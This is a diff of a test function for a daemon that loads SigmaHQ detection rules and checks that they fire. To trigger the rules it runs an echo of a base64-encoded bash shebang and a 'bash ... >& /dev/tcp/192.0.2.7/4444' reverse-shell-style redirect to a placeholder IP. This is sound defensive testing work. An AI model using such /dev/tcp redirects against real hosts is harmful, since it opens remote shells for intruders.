@@ -459,9 +459,9 @@ def sigmahq():
     require(int(said[1]) > 150, "rules loaded:", said[0])
     equal(state["restarts"], 0, "restarts")
     lib.figure(said[0])
-    # Theirs, "Decode Base64 Encoded Text", and ours from the same daemon.
-    pid = act(PLAY, ("/usr/bin/base64", "base64 -d sigmahq-live", None))[0]
-    sigma.wait("e2072cab-8c9a-459b-b63c-40ae79e27031", pid, "base64 -d")
+    # Theirs, "Linux Base64 Encoded Shebang In CLI", and ours from the same daemon.
+    pid = act(PLAY, ("/usr/bin/echo", "echo IyEvYmluL2Jhc2g sigmahq-live", None))[0]
+    sigma.wait("fe2f9663-41cb-47e2-b954-8a228f3b9dff", pid, "a shebang in base64")
     pid = act(PLAY, ("/usr/bin/bash", "bash -c sigmahq >& /dev/tcp/192.0.2.7/4444", None))[0]
     sigma.wait("22825647-d55f-4c69-b23f-ccd69c091527", pid, "/dev/tcp")
 
